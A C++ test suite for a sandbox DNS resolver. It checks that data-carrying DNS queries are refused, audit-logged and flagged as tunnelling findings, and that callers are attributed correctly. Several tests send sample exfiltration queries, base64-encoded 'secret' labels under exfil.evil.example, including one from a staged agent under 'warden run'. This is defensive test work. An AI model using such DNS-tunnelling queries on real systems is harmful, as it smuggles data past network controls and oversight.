// The sandbox resolver's holes of issue 12 (items 5 and 10): DNS as an exfiltration channel, refusals
// that went unrecorded, and a query attributed to a process that did not send it. A real resolver with
// the real audit pipeline and /proc caller identity, a real logging upstream (dnsmasq --log-queries)
// and real clients (dig, python, perl) on loopback; each test asserts the refusal and its record.

#include <arpa/inet.h>
#include <netinet/in.h>
#include <sys/socket.h>
#include <unistd.h>

#include <fmt/format.h>
#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include <memory>
#include <nlohmann/json.hpp>
#include <sstream>
#include <string>
#include <vector>

#include "audit/pipeline.h"
#include "common/unique_fd.h"
#include "policy/loader.h"
#include "policy/snapshot.h"
#include "proxy/caller_identity.h"
#include "proxy/server/dns_resolver.h"
#include "support/child_process.h"
#include "support/dnsmasq.h"
#include "support/sandbox_fixtures.h"
#include "support/test_env.h"

namespace warden::testing {
namespace {

using ::testing::HasSubstr;
using ::testing::Not;

const std::vector<std::string> kRecords = {"--address=/example.test/10.9.8.7", "--address=/tunnel.test/10.9.8.8"};

std::shared_ptr<const policy::Policy> policyOf(const std::string& yaml) {
  policy::Diagnostics d;
  auto p = policy::loadPolicyText(yaml, "policy.yaml", &d);
  EXPECT_TRUE(p.ok()) << d.toString();
  return std::make_shared<const policy::Policy>(p.ok() ? std::move(p).value() : policy::Policy{});
}

// A rule whose endpoint host is `host` (so the name resolves).
std::string ruleFor(const std::string& host) {
  return fmt::format("version: 1\nnetwork:\n  r:\n    endpoints: [{{ host: '{}', ports: [443] }}]\n"
                     "    binaries: [{{ path: /usr/bin/curl }}]\n",
                     host);
}

// A DNS query for `name` (type A), as a stub resolver sends it.
std::vector<uint8_t> queryFor(const std::string& name, uint16_t id) {
  std::vector<uint8_t> q = {static_cast<uint8_t>(id >> 8), static_cast<uint8_t>(id), 0x01, 0x00, 0, 1, 0, 0, 0, 0, 0, 0};
  std::istringstream labels(name);
  std::string label;
  while (std::getline(labels, label, '.')) {
    q.push_back(static_cast<uint8_t>(label.size()));
    q.insert(q.end(), label.begin(), label.end());
  }
  q.insert(q.end(), {0, 0, 1, 0, 1});
  return q;
}

class DnsHoles : public ::testing::Test {
 protected:
  void SetUp() override {
    if (realExecutable("dig").empty()) GTEST_SKIP() << "dig is not installed (Debian: bind9-dnsutils)";
    std::string why;
    dnsmasq_ = Dnsmasq::start(kRecords, &why);
    if (!dnsmasq_) GTEST_SKIP() << why;
    audit::PipelineOptions po;
    po.log_dir = dir_ / "logs";
    po.session.hostname = "test-host";
    po.session.session_id = "dns-holes";
    po.jsonl_enabled = true;
    po.checkpoint_interval = std::chrono::milliseconds(60'000);
    auto pipeline = audit::Pipeline::start(std::move(po));
    ASSERT_TRUE(pipeline.ok()) << pipeline.error().toString();
    pipeline_ = std::move(pipeline).value();
    session_.hostname = "test-host";
    session_.session_id = "dns-holes";
    store_ = std::make_unique<policy::PolicyStore>(policyOf(ruleFor("a.example.test")));
  }
  void TearDown() override {
    resolver_.reset();
    if (pipeline_) (void)pipeline_->close();
  }

  bool startResolver(proxy::DnsResolverOptions o = {}) {
    o.listen_address = "127.0.0.1";
    o.listen_port = 0;
    if (o.upstreams.empty()) o.upstreams = {dnsmasq_->address()};
    o.caller_lookup_timeout = std::chrono::milliseconds(3000);
    proxy::CallerLookupOptions lo;
    lo.use_sock_diag = false;
    auto ids = proxy::CallerIdentityResolver::create(lo);
    if (!ids.ok()) return false;
    auto resolver = proxy::DnsResolver::create(
        std::move(o), *pipeline_, session_,
        proxy::makeDnsCallerLookup(std::shared_ptr<proxy::CallerIdentityResolver>(std::move(ids).value())),
        store_.get());
    if (!resolver.ok()) {
      ADD_FAILURE() << resolver.error().toString();
      return false;
    }
    resolver_ = std::move(resolver).value();
    resolver_->start();
    return true;
  }
  CommandResult dig(const std::string& args) const {
    return runCommand(fmt::format("dig -p {} @127.0.0.1 +tries=1 +timeout=5 {}", resolver_->udpPort(), args));
  }
  std::string shorthand() const {
    std::error_code ec;
    const auto path = dir_ / "logs" / "warden.log";
    return std::filesystem::exists(path, ec) ? readFile(path) : "";
  }
  std::string waitForLine(const std::vector<std::string>& parts,
                          std::chrono::milliseconds timeout = std::chrono::seconds(10)) const {
    std::string found;
    waitFor(
        [&] {
          std::istringstream lines(shorthand());
          std::string line;
          while (std::getline(lines, line)) {
            bool all = true;
            for (const auto& p : parts) all = all && line.find(p) != std::string::npos;
            if (all) {
              found = line;
              return true;
            }
          }
          return false;
        },
        timeout);
    return found;
  }
  size_t countLines(const std::string& part) const {
    std::istringstream lines(shorthand());
    std::string line;
    size_t n = 0;
    while (std::getline(lines, line)) n += line.find(part) != std::string::npos ? 1 : 0;
    return n;
  }
  nlohmann::json waitForEvent(const std::function<bool(const nlohmann::json&)>& match) const {
    nlohmann::json found;
    waitFor([&] {
      std::error_code ec;
      const auto path = dir_ / "logs" / "warden-ocsf.log";
      if (!std::filesystem::exists(path, ec)) return false;
      std::istringstream lines(readFile(path));
      std::string line;
      while (std::getline(lines, line)) {
        auto j = nlohmann::json::parse(line, nullptr, false);
        if (!j.is_discarded() && match(j)) {
          found = std::move(j);
          return true;
        }
      }
      return false;
    });
    return found;
  }
  static std::function<bool(const nlohmann::json&)> dnsEventFor(const std::string& hostname) {
    return [hostname](const nlohmann::json& j) {
      return j.value("class_uid", 0) == 4003 && j.contains("query") && j["query"].value("hostname", "") == hostname;
    };
  }
  // Every complete line so far passes `warden ocsf validate --strict`.
  void expectValidRecord() const {
    TempDir copy;
    std::string text = readFile(dir_ / "logs" / "warden-ocsf.log");
    text.erase(text.rfind('\n') + 1);
    writeFile(copy / "events.jsonl", text);
    const auto r = runCommand(wardenBinary().string() + " ocsf validate --strict " +
                              (copy / "events.jsonl").string() + " 2>&1");
    EXPECT_EQ(r.status, 0) << r.output;
  }
  // A name the policy allows is asked and seen upstream: everything asked before it was logged first.
  void expectUpstreamCaughtUp(const std::string& control = "a.example.test") {
    EXPECT_EQ(dig("+short " + control).output, "10.9.8.7\n");
    EXPECT_TRUE(waitFor([&] { return dnsmasq_->queried(control); }));
  }

  TempDir dir_;
  std::unique_ptr<Dnsmasq> dnsmasq_;
  std::unique_ptr<audit::Pipeline> pipeline_;
  ocsf::SessionContext session_;
  std::unique_ptr<policy::PolicyStore> store_;
  std::unique_ptr<proxy::DnsResolver> resolver_;
};

TEST_F(DnsHoles, ANameNoRuleCouldAllowNeverReachesTheUpstream) {
  store_->swap(policyOf("version: 1\n"));  // no network rules at all
  ASSERT_TRUE(startResolver());
  const std::string name = "c2VjcmV0LWRhdGE.exfil.evil.example";
  const auto r = dig(name + " A");
  EXPECT_EQ(r.status, 0) << r.output;
  EXPECT_THAT(r.output, HasSubstr("status: NXDOMAIN"));
  const std::string line = waitForLine({"DNS:QUERY [MED] DENIED dig(", name + " A [rcode:NXDOMAIN] [policy:- engine:dns]"});
  EXPECT_NE(line, "") << shorthand();
  const nlohmann::json event = waitForEvent(dnsEventFor(name));
  ASSERT_TRUE(event.is_object());
  EXPECT_EQ(event["query"]["hostname"], name) << "the name exactly as asked, case included";
  EXPECT_EQ(event["action_id"], 2);
  EXPECT_EQ(resolver_->denied(), 1u);
  // Nothing went upstream: with a rule for the control name, it is asked and logged; the denied one is not.
  store_->swap(policyOf(ruleFor("a.example.test")));
  expectUpstreamCaughtUp();
  EXPECT_FALSE(dnsmasq_->queried(name)) << dnsmasq_->process().output();
  EXPECT_FALSE(dnsmasq_->queried("exfil.evil.example"));
  expectValidRecord();
}

TEST_F(DnsHoles, CaseThatCarriesDataIsRecordedAsSent) {
  ASSERT_TRUE(startResolver());
  const std::string name = "SeCrEt.ExFiL.evil.example";
  EXPECT_THAT(dig(name).output, HasSubstr("status: NXDOMAIN"));
  const nlohmann::json event = waitForEvent(dnsEventFor(name));
  ASSERT_TRUE(event.is_object()) << shorthand();
  EXPECT_EQ(event["query"]["hostname"], name);
  // An allowed name keeps its case in the record too, and is answered.
  EXPECT_EQ(dig("+short A.Example.TEST").output, "10.9.8.7\n");
  EXPECT_TRUE(waitForEvent(dnsEventFor("A.Example.TEST")).is_object()) << shorthand();
}

TEST_F(DnsHoles, AReloadDecidesTheNextQuery) {
  ASSERT_TRUE(startResolver());
  EXPECT_THAT(dig("b.example.test").output, HasSubstr("status: NXDOMAIN"));
  store_->swap(policyOf(ruleFor("*.example.test")));
  EXPECT_EQ(dig("+short b.example.test").output, "10.9.8.7\n");
  EXPECT_TRUE(waitFor([&] { return dnsmasq_->queried("b.example.test"); }));
  EXPECT_NE(waitForLine({"DNS:QUERY [INFO]", "b.example.test A [answers:10.9.8.7]"}), "") << shorthand();
}

TEST_F(DnsHoles, TunnellingShapesAreAFinding) {
  store_->swap(policyOf(ruleFor("**.tunnel.test")));
  ASSERT_TRUE(startResolver());
  // A data-like label under an allowed parent: it went upstream, so the finding is High.
  const std::string data = "bW9yZS1zZWNyZXQtZGF0YS1oZXJl.x.tunnel.test";
  EXPECT_EQ(dig("+short " + data).output, "10.9.8.8\n");
  EXPECT_NE(waitForLine({"FINDING:DETECTED [HIGH] \"DNS tunnelling shape\"", "type:dns-tunnel"}), "") << shorthand();
  // Under a parent no rule allows: refused, and still a (Medium) finding: someone tried.
  EXPECT_THAT(dig("c2VjcmV0LWRhdGEtYW5kLW1vcmUtb2Zf.exfil.evil.example").output, HasSubstr("NXDOMAIN"));
  EXPECT_NE(waitForLine({"FINDING:BLOCKED [MED] \"DNS tunnelling shape\""}), "") << shorthand();
  // Many distinct names under one parent in a minute: one finding, not one per name.
  UniqueFd fd(::socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0));
  sockaddr_in to{};
  to.sin_family = AF_INET;
  to.sin_port = htons(resolver_->udpPort());
  to.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
  for (int i = 0; i < 80; ++i) {
    const auto q = queryFor(fmt::format("n{}.many.tunnel.test", i), static_cast<uint16_t>(i));
    ::sendto(fd.get(), q.data(), q.size(), 0, reinterpret_cast<sockaddr*>(&to), sizeof to);
    char answer[512];
    ASSERT_GT(::recv(fd.get(), answer, sizeof answer, 0), 0);  // one at a time: under the in-flight cap
  }
  EXPECT_NE(waitForLine({"FINDING:DETECTED [HIGH] \"DNS tunnelling shape\"", "many-names"}), "") << shorthand();
  EXPECT_EQ(countLines("many-names"), 1u);
  const nlohmann::json finding = waitForEvent([](const nlohmann::json& j) {
    return j.value("class_uid", 0) == 2004 && j["finding_info"].value("desc", "").find("distinct names") != std::string::npos;
  });
  EXPECT_THAT(finding["finding_info"]["desc"].get<std::string>(), HasSubstr("50 distinct names under tunnel.test"));
  expectValidRecord();
}

TEST_F(DnsHoles, RefusalsOfTheLastSecondAreRecordedWithoutAnotherQuery) {
  // One query in flight at a time, an upstream that never answers: the rest are refused.
  UniqueFd silent(::socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0));
  sockaddr_in at{};
  at.sin_family = AF_INET;
  at.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
  ASSERT_EQ(::bind(silent.get(), reinterpret_cast<sockaddr*>(&at), sizeof at), 0);
  socklen_t len = sizeof at;
  ::getsockname(silent.get(), reinterpret_cast<sockaddr*>(&at), &len);
  proxy::DnsResolverOptions o;
  o.upstreams = {fmt::format("127.0.0.1:{}", ntohs(at.sin_port))};
  o.upstream_timeout = std::chrono::milliseconds(3000);
  o.max_in_flight = 1;
  ASSERT_TRUE(startResolver(o));
  UniqueFd fd(::socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0));
  sockaddr_in to{};
  to.sin_family = AF_INET;
  to.sin_port = htons(resolver_->udpPort());
  to.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
  for (int i = 0; i < 40; ++i) {
    const auto q = queryFor("a.example.test", static_cast<uint16_t>(i));
    ::sendto(fd.get(), q.data(), q.size(), 0, reinterpret_cast<sockaddr*>(&to), sizeof to);
  }
  ASSERT_TRUE(waitFor([&] { return resolver_->refused() == 39; })) << resolver_->refused();
  // 20 one by one, the other 19 in one event when the second ends: no further query needed.
  EXPECT_NE(waitForLine({"EVENT:DNS [LOW]", "19 more DNS queries refused over the in-flight limit"}), "") << shorthand();
  EXPECT_EQ(countLines("[rcode:REFUSED]"), 20u);
  expectValidRecord();
}

TEST_F(DnsHoles, TcpConnectionsOverTheCapAreRecorded) {
  proxy::DnsResolverOptions o;
  o.max_in_flight = 2;
  ASSERT_TRUE(startResolver(o));
  auto connectTcp = [&] {
    UniqueFd c(::socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0));
    sockaddr_in to{};
    to.sin_family = AF_INET;
    to.sin_port = htons(resolver_->tcpPort());
    to.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    EXPECT_EQ(::connect(c.get(), reinterpret_cast<sockaddr*>(&to), sizeof to), 0);
    return c;
  };
  UniqueFd first = connectTcp();
  UniqueFd second = connectTcp();
  std::vector<UniqueFd> over;
  for (int i = 0; i < 3; ++i) over.push_back(connectTcp());
  EXPECT_TRUE(waitFor([&] { return resolver_->refused() == 3; })) << resolver_->refused();
  EXPECT_TRUE(waitFor([&] { return countLines("closed: 2 connections are open, the cap") == 3; })) << shorthand();
  char byte;
  EXPECT_EQ(::recv(over[0].get(), &byte, 1, 0), 0) << "closed by the resolver";
  expectValidRecord();
}

TEST_F(DnsHoles, AQueryIsNeverAttributedToAnotherSocketOnTheSamePort) {
  ASSERT_TRUE(startResolver());
  // The sender: python on an unconnected socket bound to 0.0.0.0:P (SO_REUSEADDR).
  TempDir dir;
  writeFile(dir / "send.py", R"(import socket, sys
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind(('0.0.0.0', int(sys.argv[1])))
q = bytes.fromhex(sys.argv[3])
s.settimeout(5)
s.sendto(q, ('127.0.0.1', int(sys.argv[2])))
try:
    print(len(s.recv(512)))
except socket.timeout:
    print('no answer: the reply went to the connected socket on the port')
)");
  auto hex = [](const std::vector<uint8_t>& bytes) {
    std::string out;
    for (uint8_t b : bytes) out += fmt::format("{:02x}", b);
    return out;
  };
  // Alone, it is the actor.
  const auto alone = runCommand(fmt::format("/usr/bin/python3 {} 0 {} {}", (dir / "send.py").string(),
                                            resolver_->udpPort(), hex(queryFor("a.example.test", 7))));
  EXPECT_THAT(alone.output, Not(HasSubstr("Error")));
  // With perl holding 127.0.0.1:P connected to the resolver (the exact match the old rule preferred),
  // the sender cannot be told: no actor rather than the wrong one.
  ChildProcess::Options perl;
  const uint16_t port = 47000 + static_cast<uint16_t>(::getpid() % 1000);
  perl.argv = {"/usr/bin/perl", "-MSocket", "-e",
               fmt::format("socket(S,PF_INET,SOCK_DGRAM,0) or die; setsockopt(S,SOL_SOCKET,SO_REUSEADDR,1); "
                           "bind(S, sockaddr_in({}, inet_aton('127.0.0.1'))) or die \"bind $!\"; "
                           "connect(S, sockaddr_in({}, inet_aton('127.0.0.1'))) or die; $|=1; print \"bound\\n\"; "
                           "sleep 30",
                           port, resolver_->udpPort())};
  std::string why;
  auto holder = ChildProcess::start(perl, &why);
  ASSERT_NE(holder, nullptr) << why;
  ASSERT_NE(holder->waitForLine("bound"), "") << holder->output();
  const auto shared = runCommand(fmt::format("/usr/bin/python3 {} {} {} {}", (dir / "send.py").string(), port,
                                             resolver_->udpPort(), hex(queryFor("b.example.test", 8))));
  EXPECT_THAT(shared.output, Not(HasSubstr("Error"))) << shared.output;
  const nlohmann::json first = waitForEvent(dnsEventFor("a.example.test"));
  ASSERT_TRUE(first.is_object()) << shorthand();
  EXPECT_THAT(first["actor"]["process"].value("name", ""), HasSubstr("python3"));
  const nlohmann::json second = waitForEvent(dnsEventFor("b.example.test"));
  ASSERT_TRUE(second.is_object()) << shorthand();
  EXPECT_FALSE(second.contains("actor")) << "named " << second["actor"].dump();
  EXPECT_EQ(shorthand().find("perl("), std::string::npos) << shorthand();
}

// The review's attempt, end to end: `warden run` with no network rules, the agent resolving a name
// that carries data. The logging upstream (the host's resolver here) never sees it.
TEST_F(DnsHoles, UnderWardenRunAnUnlistedNameNeverLeavesTheHost) {
  const std::string why = sandboxUnavailableReason();
  if (!why.empty()) GTEST_SKIP() << why;
  Workspace ws;
  TempDir tmp;
  const auto policy = tmp / "policy.yaml";
  writeFile(policy, "version: 1\nnetwork:\n  demo:\n    endpoints: [{host: a.example.test, ports: [443]}]\n"
                    "    binaries: [{path: /usr/bin/curl}]\n");
  const std::string name = "c2VjcmV0LWRhdGE.exfil.evil.example";
  const auto r = runCommand(fmt::format(
      "cd {} && {} run --log-dir {} --ocsf-json --policy {} --dns-upstream {} -- sh -c "
      "'getent hosts {}; echo getent=$?; getent hosts a.example.test' 2>&1",
      ws.path().string(), wardenBinary().string(), (tmp / "log").string(), policy.string(), dnsmasq_->address(), name));
  EXPECT_EQ(r.status, 0) << r.output;
  EXPECT_THAT(r.output, HasSubstr("getent=2"));  // not found
  EXPECT_THAT(r.output, HasSubstr("10.9.8.7"));  // the control went upstream and came back
  EXPECT_TRUE(waitFor([&] { return dnsmasq_->queried("a.example.test"); }));
  EXPECT_FALSE(dnsmasq_->queried(name)) << dnsmasq_->process().output();
  const std::string log = readFile(tmp / "log" / "warden.log");
  EXPECT_THAT(log, HasSubstr(name + " A [rcode:NXDOMAIN] [policy:- engine:dns]")) << log;
  EXPECT_THAT(log, HasSubstr("DNS:QUERY [MED] DENIED"));
  const auto verify = runCommand(wardenBinary().string() + " audit verify " + (tmp / "log" / "warden-ocsf.log").string() + " 2>&1");
  EXPECT_EQ(verify.status, 0) << verify.output;
  const auto validate = runCommand(wardenBinary().string() + " ocsf validate --strict " +
                                   (tmp / "log" / "warden-ocsf.log").string() + " 2>&1");
  EXPECT_EQ(validate.status, 0) << validate.output;
}

}  // namespace
}  // namespace warden::testing
